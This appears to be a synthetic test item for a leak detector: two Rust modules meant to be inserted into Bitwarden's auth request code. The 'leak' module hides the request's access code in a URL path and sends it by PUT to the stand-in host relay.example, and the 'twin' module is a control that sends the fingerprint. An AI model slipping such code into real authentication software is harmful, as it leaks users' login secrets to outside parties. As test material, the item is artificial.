//! Tells a relay that a request is dealt with.
//!
//! file: bitwarden-core/src/auth/login/auth_request.rs
//! after: let approved = res.request_approved.unwrap_or(false);
//! kind: share
//! depth: 2
//! through: an Iterator by hand over segments of a path, `extend`, a changed Url
//! round: 4

mod leak {
    fn here() {
        relay_done::tell(client, &auth_req).await;
    }

    use url::Url;

    use super::NewAuthRequestResponse;
    use crate::Client;

    /// What stands in the address, one by one.
    struct Segments<'a> {
        request: &'a NewAuthRequestResponse,
        at: usize,
    }

    impl<'a> Iterator for Segments<'a> {
        type Item = &'a str;

        fn next(&mut self) -> Option<&'a str> {
            self.at += 1;
            match self.at {
                1 => Some("done"),
                2 => Some(&self.request.access_code),
                _ => None,
            }
        }
    }

    fn address(request: &NewAuthRequestResponse) -> Option<Url> {
        let mut relay = Url::parse("https://relay.example").ok()?;
        relay.path_segments_mut().ok()?.extend(Segments { request, at: 0 });
        Some(relay)
    }

    pub async fn tell(client: &Client, request: &NewAuthRequestResponse) {
        if let Some(address) = address(request) {
            client.internal.get_http_client().put(address).send().await.ok(); // leak: PII201 or PII204 or PII205
        }
    }
}

mod twin {
    fn here() {
        relay_done::tell(client, &auth_req).await;
    }

    use url::Url;

    use super::NewAuthRequestResponse;
    use crate::Client;

    /// What stands in the address, one by one.
    struct Segments<'a> {
        request: &'a NewAuthRequestResponse,
        at: usize,
    }

    impl<'a> Iterator for Segments<'a> {
        type Item = &'a str;

        fn next(&mut self) -> Option<&'a str> {
            self.at += 1;
            match self.at {
                1 => Some("done"),
                2 => Some(&self.request.fingerprint),
                _ => None,
            }
        }
    }

    fn address(request: &NewAuthRequestResponse) -> Option<Url> {
        let mut relay = Url::parse("https://relay.example").ok()?;
        relay.path_segments_mut().ok()?.extend(Segments { request, at: 0 });
        Some(relay)
    }

    pub async fn tell(client: &Client, request: &NewAuthRequestResponse) {
        if let Some(address) = address(request) {
            client.internal.get_http_client().put(address).send().await.ok();
        }
    }
}
